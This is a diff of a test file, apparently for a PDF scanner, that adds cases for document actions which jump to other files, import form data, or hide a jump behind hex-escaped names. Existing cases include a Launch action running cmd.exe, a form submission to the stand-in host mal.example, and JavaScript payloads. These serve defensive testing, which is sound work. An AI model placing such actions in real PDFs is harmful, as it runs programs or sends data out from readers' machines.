@@ -10,6 +10,7 @@ const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
 describe('a PDF', () => {
   it.each([
     ['is one empty page', pdf()],
+    ['goes to a place of its own', pdf('<< /S /GoTo /D [3 0 R /Fit] >>')],
     ['has packed objects', pdf(packedStream('/Type /ObjStm /N 1 /First 4', '5 0 << /Title (JS, Launch) >>'))],
     [
       'has a profile of colours',
@@ -61,6 +62,16 @@ describe('a PDF', () => {
     ],
     ['starts a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
     ['holds other files', pdf('<< /Names << /EmbeddedFiles 5 0 R >> >>')],
+    ['goes to a place of another file', pdf('<< /S /GoToR /F (plan.pdf) /D [0 /Fit] >>')],
+    [
+      'goes to a place of a file that is in another one',
+      pdf('<< /S /GoToE /F (plan.pdf) /T << /R /C /N (guide.pdf) >> /D [0 /Fit] >>'),
+    ],
+    [
+      'hides among packed objects, by numbers, that it goes to another file',
+      pdf(packedStream('/Type /ObjStm /N 1', '5 0 << /S /#47oTo#52 /F (plan.pdf) >>')),
+    ],
+    ['fills its form from a file', pdf('<< /S /ImportData /F (reponses.fdf) >>')],
     ['sends a form', pdf('<< /S /SubmitForm /F (https://mal.example) >>')],
     ['runs a script with a film', pdf('<< /S /Rendition /OP 0 /JS (app.alert(1)) >>')],
     ['has a form that is a program', pdf('<< /AcroForm << /XFA 5 0 R >> >>')],
